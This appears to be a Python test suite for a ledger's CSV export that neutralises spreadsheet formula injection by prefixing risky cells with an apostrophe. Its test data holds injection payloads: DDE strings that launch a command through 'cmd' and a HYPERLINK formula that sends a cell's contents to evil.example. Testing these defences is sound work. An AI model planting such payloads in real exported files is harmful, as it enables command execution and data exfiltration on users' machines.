"""Tables as CSV: what is in them can be read again, and no spreadsheet runs any of it."""

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledger.csv_text import PIECE, csv_text, harmless

BEGINS = "=+-@＝＋－＠"
CELL = st.text("=+-@＝; ,\t\r\n\"'aA1.5%eE|!()\0", max_size=12)
CELLS = st.lists(CELL, min_size=2, max_size=4)


def cells(text: str, separator: str = ",") -> list[list[str]]:
    """What a spreadsheet that goes by a separator reads."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def bare(line: list[str]) -> list[str]:
    return [cell.replace("'", "") for cell in line]


def is_number(cell: str) -> bool:
    """Or one after which a quotation mark stands, which no program takes for anything."""
    try:
        Decimal(cell.strip().rstrip('"%').replace(",", ""))
    except InvalidOperation:
        return False
    return True


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?x="&A1,"Click")',
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "\tplain",
        "\rplain",
        "＝1+1",
        "- a line of a list",
        "--5",
        "-5-5",
    ],
)
def test_a_formula_has_an_apostrophe_in_front(cell: str) -> None:
    said = harmless(cell)
    assert said.startswith("'")
    assert bare([cell]) == bare([said])


@pytest.mark.parametrize(
    "cell",
    [
        "-5", "+5", "-5.25", "-1,234.5", "-.5", "-5%", "-1e5", "+1.5E-10", " -5 ", "-0",
        "-", "=", "+", "@", "", " ", "5", "a=b", "2+2", "me@county.example", "'=1+1",
        "first; second", "a\tb", "one\ntwo",
    ],
)  # fmt: skip
def test_a_number_a_lone_mark_and_plain_words_stay_what_they_are(cell: str) -> None:
    assert cell == harmless(cell)


@pytest.mark.parametrize(
    ("cell", "said"),
    [
        ("plain;=1+1;", "plain;'=1+1;"),
        ("plain\t@SUM(A1)", "plain\t'@SUM(A1)"),
        ("plain\r\n=1+1", "plain\r\n'=1+1"),
        ("plain; -5; 6", "plain;' -5; 6"),
        ("-5; more", "'-5; more"),
        ('a\n"=1+1', "a\n'\"=1+1"),
    ],
)
def test_nor_does_a_formula_begin_where_another_separator_stands(cell: str, said: str) -> None:
    assert said == harmless(cell)


@given(CELLS)
def test_no_spreadsheet_finds_a_formula_by_whichever_separator(line: list[str]) -> None:
    text = "".join(csv_text(["one", "two"], [line]))
    for separator in ",;\t":
        for cell in (cell.strip() for row in cells(text, separator) for cell in row):
            assert len(cell) < 2 or cell[0] not in BEGINS or is_number(cell), (separator, cell)


@given(st.lists(CELLS, max_size=3))
def test_what_is_written_is_read_again_but_for_the_apostrophes(lines: list[list[str]]) -> None:
    _, *read = cells("".join(csv_text(["one", "two"], lines)))
    said = [[harmless(cell, alone=n > 0) for n, cell in enumerate(line)] for line in lines]
    assert said == read
    assert [bare(line) for line in lines] == [bare(line) for line in read]


def test_a_number_is_no_beginning_of_a_formula_that_the_next_cell_ends() -> None:
    """By semicolons all of a line is one cell, or what comes after one of them."""
    ends = "2+cmd|' /C calc'!A0"
    text = "".join(csv_text(["one", "two"], [["-1", ends], ["x;-1", ends], ["x", "-1", ends]]))
    assert f"one,two\r\n'-1,{ends}\r\nx;'-1,{ends}\r\nx,-1,{ends}\r\n" == text


def test_much_of_it_comes_in_pieces() -> None:
    pieces = list(csv_text(["number"], ([str(number)] for number in range(30_000))))
    assert 3 < len(pieces) < 10
    assert all(len(piece) < PIECE + 100 for piece in pieces)
    assert 30_001 == len(cells("".join(pieces)))
